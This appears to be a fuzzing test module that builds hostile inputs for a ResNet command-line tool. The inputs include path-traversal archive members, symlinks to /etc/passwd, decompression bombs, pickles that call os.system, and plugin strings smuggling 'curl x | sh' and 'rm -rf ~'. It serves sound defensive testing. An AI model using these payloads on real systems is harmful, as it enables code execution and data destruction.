"""The inputs of `hostile.py`, by family. Each case writes its files below a folder and returns a command line.

A case gets an empty folder with `in` (its files), `store`, `runs` and `out`. All bytes follow from the seed.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

BASE = Path()  # `prepare` fills it: photos, a store, a run, weights, a PyTorch file, an ONNX file
PHOTOS = 12
Make = Callable[[Path], list[str]]


@dataclass(frozen=True)
class Case:
    """One hostile input. `weight` multiplies the limit of CPU seconds, for commands that start other processes."""

    family: str
    name: str
    make: Make
    weight: float = 1.0


def prepare(base: Path) -> None:
    """Make the sound files that the cases damage, with the commands themselves."""
    import torch
    from safetensors.torch import load_file

    from resnetctl.__main__ import main

    base.mkdir()
    os.environ |= {"RESNETCTL_DATA_DIR": str(base / "store"), "RESNETCTL_RUNS_DIR": str(base / "runs")}
    for label in ("cat", "dog"):
        (base / "photos" / label).mkdir(parents=True)
        for number in range(PHOTOS):
            (base / "photos" / label / f"{number}.png").write_bytes(picture(number + 100 * (label == "dog")))
    (base / "classes.txt").write_text("cat\ndog\n")
    train = ["train", "--arch", "resnet20", "--data", "base", "--epochs", "1", "--name", "base"]
    for arguments in (["data", "add", str(base / "photos"), "--name", "base"], train):
        assert main(arguments) == 0
    run = base / "runs" / "base"
    (base / "base.safetensors").write_bytes((run / "model.safetensors").read_bytes())
    torch.save(load_file(base / "base.safetensors"), base / "base.pth")
    assert main(["export", str(run), "--onnx", "--out", str(base / "base.onnx")]) == 0


def picture(seed: int, kind: str = "PNG", size: tuple[int, int] = (16, 16)) -> bytes:
    """Return an encoded picture of noise."""
    pixels = np.random.default_rng(seed).integers(0, 256, (*size, 3), dtype=np.uint8)
    stream = io.BytesIO()
    Image.fromarray(pixels).save(stream, kind)
    return stream.getvalue()


def mutated(data: bytes, source: random.Random) -> bytes:
    """Return the bytes after one to four changes: a flip, a cut, a doubled or zeroed part, noise, or swapped halves."""
    changed = bytearray(data)
    for _ in range(source.randint(1, 4)):
        if len(changed) < 8:
            break
        place = source.randrange(len(changed))
        length = source.choice((1, 2, 4, 16, 512, max(len(changed) // 3, 1)))
        match source.randrange(7):
            case 0:
                changed[place] ^= 1 << source.randrange(8)
            case 1:
                del changed[place:]
            case 2:
                del changed[place : place + length]
            case 3:
                changed[place:place] = changed[place : place + length]
            case 4:
                changed[place : place + length] = bytes(len(changed[place : place + length]))
            case 5:
                changed[place : place + length] = source.randbytes(len(changed[place : place + length]))
            case 6:
                changed[place : place + 4] = b"\xff" * len(changed[place : place + 4])
    return bytes(changed)


def written(name: str, data: Callable[[], bytes], *command: str) -> Make:
    """Return a case that writes one file and runs `command`, in which `FILE` stands for it."""

    def make(root: Path) -> list[str]:
        path = root / "in" / name
        path.write_bytes(data())
        return [word.replace("FILE", str(path)).replace("BASE", str(BASE)) for word in command]

    return make


# ---- archives


def tar_of(members: list[tuple[tarfile.TarInfo, bytes]], mode: str = "w:gz", **options: Any) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode, **options) as archive:  # type: ignore[call-overload]
        for label in ("cat", "dog"):
            for number in range(3):
                archive.addfile(*member(f"{label}/{number}.png", picture(number)))
        for info, content in members:
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def member(name: str, content: bytes = b"", **fields: Any) -> tuple[tarfile.TarInfo, io.BytesIO]:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    for key, value in fields.items():
        setattr(info, key, value)
    return info, io.BytesIO(content)


def one(name: str, **fields: Any) -> bytes:
    info, _ = member(name, **fields)
    return tar_of([(info, b"")])


def zip_of(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for label in ("cat", "dog"):
            for number in range(3):
                archive.writestr(f"{label}/{number}.png", picture(number))
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def long_header(size: int) -> bytes:
    """Return a tar whose extended header is one record of `size` digits without an end."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, size
    return _gzip(info.tobuf(tarfile.USTAR_FORMAT) + b"1" * size + bytes(10240))


def _gzip(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(data) + packer.flush()


def archives(seed: int) -> Iterator[Case]:
    """Archives that climb, link, explode, lie about sizes, or are damaged."""
    add = ("data", "add", "FILE", "--name", "x", "--on-bad-image", "skip")
    climbing = [
        "../x.png",
        "../../../../x.png",
        "/tmp/resnetctl-x.png",
        "cat/../../../x.png",
        "..\\x.png",
        "C:\\x.png",
        "cat/",
        "",
        ".",
        "cat/\x00.png",
        "cat/\n.png",
        "cat/\x1b[31m.png",
        "\u202ecat/x.png",
        "CON/x.png",
        "cat./x.png",
        "-x/y.png",
        "a" * 300 + "/x.png",
        "/".join("d" * 1 for _ in range(500)) + "/x.png",
    ]
    crafted: dict[str, tuple[str, Callable[[], bytes]]] = {}
    for name in climbing:
        crafted[f"tar member {name[:24]!r}"] = ("x.tar.gz", lambda name=name: tar_of([(member(name)[0], b"")]))
        crafted[f"zip member {name[:24]!r}"] = ("x.zip", lambda name=name: zip_of([(name or "x", picture(9))]))
    for kind in (b"1", b"2", b"3", b"4", b"5", b"6", b"7", b"S", b"?"):
        crafted[f"tar type {kind!r}"] = (
            "x.tar.gz",
            lambda kind=kind: one("cat/link.png", type=kind, linkname="../../../../../etc/passwd"),
        )
    for size in (40_000, 100_000, 1_000_000):
        crafted[f"extended header of {size}"] = ("x.tar.gz", lambda size=size: long_header(size))
    crafted |= {
        "cut": ("x.tar.gz", lambda: tar_of([])[:-20]),
        "gzip bomb": ("x.tar.gz", lambda: _gzip(bytes(300_000_000))),
        "zip bomb": ("x.zip", lambda: zip_of([("cat/bomb.png", bytes(300_000_000))])),
        "zip bomb of 5 images": ("x.zip", lambda: zip_of([(f"cat/b{i}.png", bytes(50_000_000)) for i in range(5)])),
        "20,000 empty members": ("x.zip", lambda: zip_of([(f"cat/{i}.txt", b"") for i in range(20_000)])),
        "2,000 folders": ("x.tar.gz", lambda: tar_of([(member(f"c{i}/x.txt")[0], b"") for i in range(2_000)])),
        "nested archive": ("x.zip", lambda: zip_of([("cat/inner.zip", zip_of([]))])),
        "same name twice": ("x.zip", lambda: zip_of([("cat/0.png", picture(77)), ("cat/0.png", picture(78))])),
        "upper and lower case": ("x.zip", lambda: zip_of([("CAT/0.png", picture(77)), ("Cat/0.png", picture(78))])),
        "garbage behind tar.xz": ("x.tar.xz", lambda: tar_of([], "w:xz") + b"garbage" * 100),
        "garbage before zip": ("x.zip", lambda: b"garbage" * 100 + zip_of([])),
        "empty file": ("x.zip", lambda: b""),
        "tar by name only": ("x.tar", lambda: b"\x00" * 10240),
        "pickle": ("x.zip", lambda: b"\x80\x04cos\nsystem\n(S'touch x'\ntR."),
    }
    for name, (file, data) in crafted.items():
        yield Case("archives", name, written(file, data, *add))
    for number in range(80):
        source = random.Random(f"{seed} archive {number}")
        file, good = [
            ("x.tar.gz", tar_of([])),
            ("x.zip", zip_of([])),
            ("x.tar", tar_of([], "w")),
            ("x.tar.xz", tar_of([], "w:xz")),
        ][number % 4]
        yield Case("archives", f"mutation {number}", written(file, lambda g=good, s=source: mutated(g, s), *add))


# ---- images


def png_chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks)
    return b"\x89PNG\r\n\x1a\n" + body


def header(width: int, height: int, depth: int = 8, colour: int = 2) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)


def images(seed: int) -> Iterator[Case]:
    """Pictures that are bombs, damaged, odd, or no pictures."""
    crafted: dict[str, Callable[[], bytes]] = {
        "bomb of 10^9 pixels": lambda: png_chunks(
            header(31_000, 31_000), (b"IDAT", zlib.compress(bytes(10))), (b"IEND", b"")
        ),
        "text bomb": lambda: png_chunks(
            header(8, 8), (b"zTXt", b"k\0\0" + zlib.compress(bytes(50_000_000))), (b"IEND", b"")
        ),
        "profile bomb": lambda: png_chunks(
            header(8, 8), (b"iCCP", b"k\0\0" + zlib.compress(bytes(50_000_000))), (b"IEND", b"")
        ),
        "too much data": lambda: png_chunks(header(8, 8), (b"IDAT", zlib.compress(bytes(50_000_000))), (b"IEND", b"")),
        "no pixels": lambda: png_chunks(header(0, 0), (b"IEND", b"")),
        "16-bit PGM": lambda: b"P5 4 4 65535\n" + bytes(range(32)),
        "32-bit PGM": lambda: b"P5 4 4 4294967295\n" + bytes(64),
        "PPM of 10^12": lambda: b"P6 1000000 1000000 255\n" + bytes(100),
        "PPM with endless number": lambda: b"P6 " + b"9" * 100_000 + b" 4 255\n",
        "SVG": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "EPS": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
        "text": lambda: b"not a picture",
        "nothing": lambda: b"",
        "zeros": lambda: bytes(1000),
        "a long name inside": lambda: png_chunks(header(8, 8), (b"tEXt", b"\x1b[31m" * 1000), (b"IEND", b"")),
    }

    def folder(data: Callable[[], bytes], name: str, *command: str) -> Make:
        def make(root: Path) -> list[str]:
            for label in ("cat", "dog"):
                (root / "in" / "photos" / label).mkdir(parents=True)
                for number in range(3):
                    (root / "in" / "photos" / label / f"{number}.png").write_bytes(picture(number))
            (root / "in" / "photos" / "cat" / name).write_bytes(data())
            return [word.replace("FOLDER", str(root / "in" / "photos")) for word in command]

        return make

    def all_images() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
        for name, data in crafted.items():
            yield name, "bad.png", data
        for kind in ("PNG", "JPEG", "GIF", "BMP", "WEBP", "TIFF", "PPM"):
            good = picture(5, kind, (24, 20))
            for number in range(14):
                source = random.Random(f"{seed} image {kind} {number}")
                yield f"{kind} mutation {number}", f"bad.{kind.lower()}", lambda g=good, s=source: mutated(g, s)

    for number, (name, file, data) in enumerate(all_images()):
        bad = ("--on-bad-image", "skip") if number % 2 else ()
        yield Case("images", name, folder(data, file, "data", "add", "FOLDER", "--name", "x", *bad))
        if number % 4 == 0:
            predict = ("predict", "BASE/base.onnx", "FILE")
            yield Case("images", f"predict {name}", written(file, data, *predict))


# ---- models


def pth(content: bytes) -> bytes:
    """Return a PyTorch file whose pickle is `content`."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3\n")
    return stream.getvalue()


def wide() -> bytes:
    import torch

    stream = io.BytesIO()
    torch.save({"conv1.weight": torch.zeros(()).expand(4, 10**9, 3, 3)}, stream)
    return stream.getvalue()


def pickles() -> dict[str, bytes]:
    call = b"c%s\n(S'touch ran'\ntR."
    deep, doubled = b")" + b"\x85" * 90_000, b"]" + b"2\x86" * 60
    named = {
        "os.system": call % b"os\nsystem",
        "builtins.exec": call % b"builtins\nexec",
        "inst": b"(S'touch ran'\nios\nsystem\n.",
        "subprocess": call % b"subprocess\nPopen",
        "torch.load": call % b"torch\nload",
        "deep tuple": deep + b".",
        "deep key": b"}(" + deep + b"K\x01u.",
        "doubled": doubled + b".",
        "doubled key": b"}(" + doubled[1:].replace(b"]", b")") + b"K\x01u.",
        "itself": b"}q\x00(X\x0a\x00\x00\x00state_dicth\x00u.",
        "memory": b"c__builtin__\nbytearray\n\x8a\x05\x00\x00\x00\x00\x02\x85R.",
        "memo": b"}r\xff\xff\xff\xff.",
        "many": b"(" + b"]" * 200_000 + b"t.",
        "numbers": b"(" + b"K\x01" * 900_000 + b"t.",
        "no end": b"}q\x00",
        "empty stack": b"a.",
        "persistent": b"K\x01Q.",
    }
    return {name: b"\x80\x02" + content for name, content in named.items()}


def safetensors_of(head: Any, data: bytes = b"", *, length: int | None = None) -> bytes:
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def tensors() -> dict[str, bytes]:
    def named(**fields: Any) -> dict[str, Any]:
        return {"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} | fields}

    return {
        "length of 2^63": safetensors_of(b"{}", length=2**63),
        "length of 200 MB": safetensors_of(b"{}", length=200_000_000),
        "nested": safetensors_of(b"[" * 100_000),
        "digits": safetensors_of(b'{"x":' + b"9" * 5000 + b"}"),
        "shape overflow": safetensors_of(named(shape=[2**62, 8]), bytes(4)),
        "many sides": safetensors_of(named(shape=[9] * 200_000)),
        "negative": safetensors_of(named(shape=[-1]), bytes(4)),
        "hole": safetensors_of(named(data_offsets=[4, 8]), bytes(8)),
        "text shape": safetensors_of(named(shape="1"), bytes(4)),
        "dtype": safetensors_of(named(dtype=["F32"]), bytes(4)),
        "twice": safetensors_of(b'{"x":1,"x":2}'),
        "trailing": safetensors_of(named(), bytes(99)),
        "many tensors": safetensors_of({f"t{i}": {} for i in range(50_000)}),
        "list": safetensors_of([1, 2]),
    }


def onnx_with(kind: str, *constants: Any, **attributes: Any) -> bytes:
    """Return the sound ONNX file with one more operator, without its digest."""
    import onnx

    model = onnx.load(BASE / "base.onnx")
    kept = [item for item in model.metadata_props if item.key != "sha256.model"]
    del model.metadata_props[:]
    model.metadata_props.extend(kept)
    names = []
    for number, values in enumerate(constants):
        names.append(values if isinstance(values, str) else f"c{number}")
        if not isinstance(values, str):
            model.graph.initializer.append(onnx.numpy_helper.from_array(np.asarray(values), names[-1]))
    if kind:
        model.graph.node.append(onnx.helper.make_node(kind, names, ["large"], name="\x1b[31mred", **attributes))
    return bytes(model.SerializeToString())


def onnx_files() -> dict[str, Callable[[], bytes]]:
    huge = np.array([50_000, 50_000], np.int64)
    one = np.ones((1, 1), np.float32)
    return {
        "ConstantOfShape": lambda: onnx_with("ConstantOfShape", huge),
        "Expand": lambda: onnx_with("Expand", one, huge),
        "Tile": lambda: onnx_with("Tile", one, huge),
        "Range": lambda: onnx_with("Range", np.int64(0), np.int64(10**12), np.int64(1)),
        "OneHot": lambda: onnx_with("OneHot", huge, np.int64(10**9), np.float32([0, 1])),
        "Resize": lambda: onnx_with("Resize", "pixel_values", "", np.float32([1, 1, 9999, 9999])),
        "RandomNormal": lambda: onnx_with("RandomNormal", shape=[50_000, 50_000]),
        "MatMul": lambda: onnx_with("MatMul", np.ones((60_000, 1), np.float32), np.ones((1, 60_000), np.float32)),
        "Add": lambda: onnx_with("Add", np.ones((60_000, 1), np.float32), np.ones((1, 60_000), np.float32)),
        "Pad": lambda: onnx_with("Pad", one, np.array([0, 0, 10**6, 10**6], np.int64)),
        "Loop": lambda: onnx_with("Loop", np.int64(10**12), "", one),
        "unknown": lambda: onnx_with("Conjure", one),
        "foreign domain": lambda: onnx_with("Relu", one, domain="evil"),
        "not connected": lambda: onnx_with("Relu", "nowhere"),
        "wrong inputs": lambda: onnx_with("Conv", one, one),
        "cyclic": lambda: onnx_with("Relu", "large"),
    }


def models(seed: int) -> Iterator[Case]:
    """PyTorch files, safetensors and ONNX files that lie, explode, or hold code."""
    taken = (
        "weights",
        "import",
        "FILE",
        "--arch",
        "resnet20",
        "--classes",
        "BASE/classes.txt",
        "--out",
        "w.safetensors",
    )
    predict = ("predict", "FILE", "BASE/photos/cat/0.png")
    for name, content in pickles().items():
        yield Case("models", f"zip {name}", written("x.pth", lambda c=content: pth(c), *taken))
        yield Case("models", f"old format {name}", written("x.pth", lambda c=content: c, *taken))
    yield Case("models", "stride 0", written("x.pth", wide, *taken))
    for name, content in tensors().items():
        yield Case(
            "models", f"safetensors {name}", written("x.safetensors", lambda c=content: c, "weights", "show", "FILE")
        )
    for name, data in onnx_files().items():
        yield Case("models", f"ONNX {name}", written("x.onnx", data, *predict))
    for number in range(90):
        source = random.Random(f"{seed} model {number}")
        file, command = [
            ("base.pth", taken),
            ("base.safetensors", ("predict", "FILE", "BASE/photos/cat/0.png")),
            ("base.onnx", predict),
        ][number % 3]
        data: Callable[[], bytes] = lambda f=file, s=source: mutated((BASE / f).read_bytes(), s)  # type: ignore[misc]  # noqa: E731
        yield Case("models", f"mutation {number} of {file}", written(f"x{Path(file).suffix}", data, *command))


# ---- cards


WRONG: tuple[tuple[str, Any], ...] = (
    ("image.size", 8.0),
    ("image.size", True),
    ("image.size", 10**9),
    ("image.size", -1),
    ("image.size", "8"),
    ("image.channels", 10**9),
    ("image.channels", 0),
    ("image.interpolation", "evil"),
    ("image.fit", None),
    ("image.mean", "0.5"),
    ("image.mean", [None]),
    ("image.mean", [float("nan")] * 3),
    ("image.std", [float("inf")] * 3),
    ("image.std", [0, 0, 0]),
    ("image.resize", 10**9),
    ("image", 5),
    ("image", []),
    ("classes", "cat"),
    ("classes", [1, 2]),
    ("classes", []),
    ("classes", ["\x1b[31mred", "\u202eb"]),
    ("classes", ["a\nb\tc", "d"]),
    ("classes", ["x"] * 2),
    ("classes", None),
    ("surprise", 1),
)
DATA_ONLY: tuple[tuple[str, Any], ...] = (
    ("splits", {"train": "many"}),
    ("splits", {"train": -1}),
    ("splits", {"train": 10**18}),
    ("splits", []),
    ("name", 5),
    ("name", "../../../X"),
    ("name", "\x1b[31m"),
    ("licence", None),
    ("digests", {"train": 5}),
    ("defaults", {"epochs": "x"}),
    ("defaults", {"augment": "gone"}),
    ("notes", "text"),
    ("notes", ["\x1b[2J\n\nforged"]),
)
WEIGHTS_ONLY: tuple[tuple[str, Any], ...] = (
    ("arch.block", None),
    ("arch.block", "no_such_block"),
    ("arch.depths", [10**9] * 3),
    ("arch.widths", [10**9] * 3),
    ("arch.depths", "abc"),
    ("arch.block_args", {"width": [1]}),
    ("arch.stem", "huge"),
    ("metrics", "good"),
    ("metrics", {"val_top1": float("nan")}),
    ("schema", 99),
    ("schema", None),
    ("split", {"seed": "x"}),
    ("version", 5),
    ("plugins.required", {"evil; curl x | sh": "1"}),
    ("plugins.required", {"--index-url=http://evil": "1"}),
    ("plugins.required", {"a b": "1.0 && rm -rf ~"}),
    ("plugins", 5),
    ("arch.name", "\x1b[31m"),
    ("trained_on", {"name": 5}),
)
TEXTS = {
    "nested": "[" * 100_000,
    "nested tables": '{"a":' * 100_000,
    "digits": '{"size": ' + "9" * 5000 + "}",
    "twice": '{"a":1,"a":2}',
    "nothing": "",
    "a list": "[]",
    "a number": "1e999999",
    "100,000 keys": json.dumps({f"k{i}": 1 for i in range(100_000)}),
    "a long key": json.dumps({"k" * 1_000_000: 1}),
    "not text": "\udcff",
    "a surrogate": '{"name": "\\ud800"}',
}


def changed(card: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    copy: dict[str, Any] = json.loads(json.dumps(card))
    *outer, key = path.split(".")
    (copy[outer[0]] if outer else copy)[key] = value
    return copy


def weights_with(text: Callable[[dict[str, Any]], str]) -> bytes:
    """Return the sound weights with another card."""
    data = (BASE / "base.safetensors").read_bytes()
    length = int.from_bytes(data[:8], "little")
    head = json.loads(data[8 : 8 + length])
    head["__metadata__"]["resnetctl"] = text(json.loads(head["__metadata__"]["resnetctl"]))
    return safetensors_of(head, data[8 + length :])


def resealed(card: dict[str, Any]) -> str:
    """Return a card as text, with a digest that matches."""
    body = {key: value for key, value in card.items() if key not in ("sha256", "card_sha256")}
    seal = hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()
    return json.dumps({**body, "sha256": card.get("sha256", ""), "card_sha256": seal}, sort_keys=True)


def onnx_card(text: Callable[[dict[str, Any]], str]) -> bytes:
    import onnx

    model = onnx.load_model_from_string(onnx_with(""))
    for item in model.metadata_props:
        if item.key == "resnetctl.card":
            item.value = text(json.loads(item.value)).encode("utf-8", "replace").decode()
    return bytes(model.SerializeToString())


def stored_card(text: Callable[[dict[str, Any]], str], *command: str) -> Make:
    def make(root: Path) -> list[str]:
        for name in ("base", "sound"):
            (root / "store" / name).mkdir()
            for path in (BASE / "store" / "base").iterdir():
                (root / "store" / name / path.name).write_bytes(path.read_bytes())
        card = root / "store" / "base" / "card.json"
        card.write_bytes(text(json.loads(card.read_text())).encode("utf-8", "surrogateescape"))
        return [*command]

    return make


def cards(seed: int) -> Iterator[Case]:
    """Cards of data, weights and ONNX files with values that no writer writes."""
    for number, (path, value) in enumerate((*WRONG, *DATA_ONLY)):
        text = lambda card, p=path, v=value: json.dumps(changed(card, p, v))  # noqa: E731
        command = [("data", "show", "base"), ("data", "list"), ("eval", "BASE/base.onnx", "--data", "base")][number % 3]
        named = f"{path} = {str(value)[:20]!r}"
        yield Case("cards", f"data {named}", stored_card(text, *(w.replace("BASE", str(BASE)) for w in command)))
    for number, (path, value) in enumerate((*WRONG, *WEIGHTS_ONLY)):
        named = f"{path} = {str(value)[:20]!r}"
        sealed = lambda card, p=path, v=value: resealed(changed(card, p, v))  # noqa: E731
        show = ("weights", "show", "FILE") if number % 2 else ("predict", "FILE", "BASE/photos/cat/0.png")
        yield Case("cards", f"weights {named}", written("x.safetensors", lambda t=sealed: weights_with(t), *show))
        plain = lambda card, p=path, v=value: json.dumps(changed(card, p, v))  # noqa: E731
        predict = ("predict", "FILE", "BASE/photos/cat/0.png")
        yield Case("cards", f"ONNX {named}", written("x.onnx", lambda t=plain: onnx_card(t), *predict))
    for name, body in TEXTS.items():
        give = lambda _, b=body: b  # noqa: E731
        yield Case("cards", f"data {name}", stored_card(give, "data", "list"))
        yield Case(
            "cards",
            f"ONNX {name}",
            written("x.onnx", lambda t=give: onnx_card(t), "predict", "FILE", "BASE/photos/cat/0.png"),
        )
        if "\udcff" not in body:
            yield Case(
                "cards",
                f"weights {name}",
                written("x.safetensors", lambda t=give: weights_with(t), "weights", "show", "FILE"),
            )


# ---- configs


def configs(seed: int) -> Iterator[Case]:
    """TOML files with wrong types, deep nesting, long keys, and no end."""
    lines = [
        "lr = true",
        "lr = nan",
        "lr = inf",
        "lr = 'x'",
        "epochs = 1.5",
        "epochs = -1",
        "epochs = 99999999999999999999",
        "seed = -1",
        "seed = []",
        "batch_size = 0",
        "data = 5",
        "data = '../../../etc'",
        "data = '\\u001b[31m'",
        "augment = ''",
        "augment = {}",
        "[model]\narch = 5",
        "[model]\narch = 'no\\u202e'",
        "[model]\nblock_args = 5",
        "[optim]\nname = []",
        "[optim]\nnam = 'sgd'",
        "x = 1\nx = 2",
        "[a]\n[a]",
        "a.b.c.d = 1",
        "= 5",
        "lr = 0x",
        "'' = 1",
        "lr = 1e999",
        "lr = 1979-05-27",
        "schedule = 'evil'",
        "size = 99999999",
        "threads = 10000",
        "progressive = true",
        "[progressive]\nx = 1",
        "val_fraction = 2",
        "recipe = 'x'",
    ]
    texts = {line[:30]: line.encode() for line in lines} | {
        "nested lists": b"lr = " + b"[" * 100_000,
        "nested tables": b"a = " + b"{a = " * 50_000,
        "dotted key": b"a." * 50_000 + b"b = 1",
        "digits": b"epochs = " + b"9" * 5000,
        "long text": b"data = '" + b"x" * 5_000_000 + b"'",
        "zeros": bytes(10_000),
        "not text": b"\xff\xfe\x00",
        "100,000 keys": b"\n".join(b"k%d = 1" % i for i in range(100_000)),
        "nothing": b"",
        "many tables": b"\n".join(b"[t%d]" % i for i in range(20_000)),
        "one line": b"#" * 5_000_000,
    }
    show = ("config", "show", "--config", "FILE")
    for name, data in texts.items():
        yield Case("configs", name, written("x.toml", lambda d=data: d, *show))
    for number in range(30):
        source = random.Random(f"{seed} config {number}")
        data = lambda s=source: mutated((BASE / "runs" / "base" / "config.toml").read_bytes(), s)  # type: ignore[assignment,misc]  # noqa: E731
        yield Case("configs", f"mutation {number}", written("x.toml", data, *show))  # type: ignore[arg-type]
    for device in ("/dev/zero", "/dev/full", "/dev/null", "/", "/nope"):
        yield Case("configs", device, lambda root, d=device: ["config", "show", "--config", d])

    def fifo(root: Path) -> list[str]:
        os.mkfifo(root / "in" / "x.toml")
        return ["config", "show", "--config", str(root / "in" / "x.toml")]

    yield Case("configs", "FIFO", fifo)


# ---- runs


def runs(seed: int) -> Iterator[Case]:
    """Run folders whose files are damaged, foreign, or have no end."""
    commands = (["runs", "list"], ["runs", "show", "base"], ["runs", "verify", "base"], ["eval", "base", "--json"])
    special = {
        "nested": b'{"a":' * 100_000,
        "digits": b'{"best": ' + b"9" * 5000 + b"}",
        "nothing": b"",
        "a list": b"[]",
        "text": b"no\x1b[31m",
        "zeros": bytes(5000),
        "a number": b"1",
        "many keys": json.dumps({f"k{i}": 1 for i in range(100_000)}).encode(),
    }

    def damaged(file: str, change: Callable[[bytes], bytes], command: list[str]) -> Make:
        def make(root: Path) -> list[str]:
            for name in ("base", "sound"):
                for path in (BASE / "runs" / "base").rglob("*"):
                    target = root / "runs" / name / path.relative_to(BASE / "runs" / "base")
                    if path.is_dir():
                        target.mkdir(parents=True, exist_ok=True)
                    else:
                        target.parent.mkdir(parents=True, exist_ok=True)
                        target.write_bytes(path.read_bytes())
            os.symlink(BASE / "store" / "base", root / "store" / "base")
            victim = root / "runs" / "base" / file
            content = change(victim.read_bytes() if victim.is_file() else b"")
            victim.write_bytes(content)
            return command

        return make

    files = ("summary.json", "config.toml", "config.sources.json", "env.json", "metrics.jsonl", "timings.jsonl")
    for number, file in enumerate(files):
        for position, (name, content) in enumerate(special.items()):
            command = commands[(number + position) % len(commands)]
            yield Case("runs", f"{file} {name}", damaged(file, lambda _, c=content: c, command))
    for number in range(36):
        source = random.Random(f"{seed} run {number}")
        file, command = (*files, "model.safetensors")[number % 7], commands[number % 4]
        yield Case("runs", f"mutation {number} of {file}", damaged(file, lambda d, s=source: mutated(d, s), command))


# ---- plugins


def plugins(seed: int) -> Iterator[Case]:
    """Installed distributions that end the process, lie, or are damaged."""
    arch = (
        "from resnetctl.spec import Arch\n"
        "net = Arch(name='bad', block='basic', depths=(1,), widths=(8,), summary='s')\n"
    )
    codes = {
        "sound": arch,
        "raises": "raise ValueError('\\x1b[31m')\n",
        "SystemExit 0": "raise SystemExit(0)\n",
        "SystemExit": "raise SystemExit\n",
        "os._exit 0": "import os\nos._exit(0)\n",
        "os._exit 7": "import os\nos._exit(7)\n",
        "abort": "import os\nos.abort()\n",
        "wrong type": "net = 7\n",
        "nothing": "",
        "prints": "print('\\x1b[31mHELLO')\n" + arch,
        "no module": "import no_such_module\n",
        "KeyboardInterrupt": "raise KeyboardInterrupt\n",
        "syntax": "def (\n",
        "deep": "x = " + "(" * 500 + "\n",
        "GeneratorExit": "raise GeneratorExit\n",
        "long message": "raise ValueError('x' * 1_000_000)\n",
        "hostile name": arch.replace("'bad'", "'\\x1b[31m'"),
    }
    used = (
        ["plugins", "list"],
        ["plugins", "show", "bad"],
        ["plugins", "list", "--check", "--kind", "arch"],
        ["--help"],
    )

    def site(code: str, command: list[str], *, points: str = "", metadata: str | None = "", folder: str = "") -> Make:
        def make(root: Path) -> list[str]:
            info = root / "in" / "site" / (folder or "bad_nets-1.0.dist-info")
            info.mkdir(parents=True)
            if metadata is not None:
                (info / "METADATA").write_text(metadata or "Metadata-Version: 2.1\nName: bad-nets\nVersion: 1.0\n")
            (info / "entry_points.txt").write_text(points or "[resnetctl.archs]\nbad = bad_nets:net\n")
            (root / "in" / "site" / "bad_nets.py").write_text(code)
            return command

        return make

    for number, (name, code) in enumerate(codes.items()):
        ends = name.startswith(("os._exit", "abort"))  # used in this process, it ends it; that is the plugin's right
        for command in (used[0], used[2]) if ends else (used[1], used[2] if "Exit" in name else used[number % 4]):
            weight = 6.0 if "--check" in command else 1.0
            yield Case("plugins", f"{name}: {' '.join(command)}", site(code, command), weight)
    points = {
        "no object": "[resnetctl.archs]\nbad = bad_nets\n",
        "no module": "[resnetctl.archs]\nbad = gone:net\n",
        "hostile name": "[resnetctl.archs]\n\x1b[31m = bad_nets:net\n",
        "climbing name": "[resnetctl.datasets]\n../../x = bad_nets:net\n",
        "a built-in": "[resnetctl.archs]\nresnet20 = bad_nets:net\n",
        "no section": "bad = bad_nets:net\n",
        "broken": "[resnetctl.archs\n\x00",
        "100 names": "[resnetctl.archs]\n" + "".join(f"n{i} = bad_nets:net\n" for i in range(100)),
        "a verb": "[resnetctl.commands]\ntrain = bad_nets:net\n",
        "a long name": f"[resnetctl.archs]\n{'n' * 10_000} = bad_nets:net\n",
    }
    for name, text in points.items():
        for command in (["plugins", "list"], ["--help"]):
            yield Case("plugins", f"entry points {name}: {command[0]}", site(arch, command, points=text))
    texts = {
        "none": None,
        "no name": "Metadata-Version: 2.1\n",
        "noise": "\x00\x01",
        "hostile": "Name: \x1b[31m\nVersion: x\n",
    }
    for name, metadata in texts.items():
        yield Case("plugins", f"metadata {name}", site(arch, ["plugins", "list"], metadata=metadata))
    for folder in (".dist-info", "-.dist-info", "x.egg-info", "\x1b[31m-1.dist-info"):
        yield Case("plugins", f"folder {folder!r}", site(arch, ["plugins", "list"], folder=folder, metadata=None))


# ---- names


def names(seed: int) -> Iterator[Case]:
    """Names of data, files, classes and runs that climb, control the terminal, or forge lines."""
    hostile = [
        "../../../X",
        "..",
        ".",
        "/etc/passwd",
        "a\nb",
        "\x1b[31mred",
        "\u202eabc",
        "a\tb",
        "-x",
        "--help ",
        "x" * 300,
        "\u00e9t\u00e9",
        "e\u0301",
        "a'b\"c",
        "$(touch ran)",
        "`touch ran`",
        "a;b",
        "CON",
        "name.",
        " ",
    ]
    for name in hostile:
        shown = repr(name[:20])
        yield Case("names", f"data show {shown}", lambda root, n=name: ["data", "show", "--", n])
        yield Case("names", f"runs show {shown}", lambda root, n=name: ["runs", "show", "--", n])
        yield Case("names", f"train --data {shown}", lambda root, n=name: ["config", "show", f"--data={n}"])
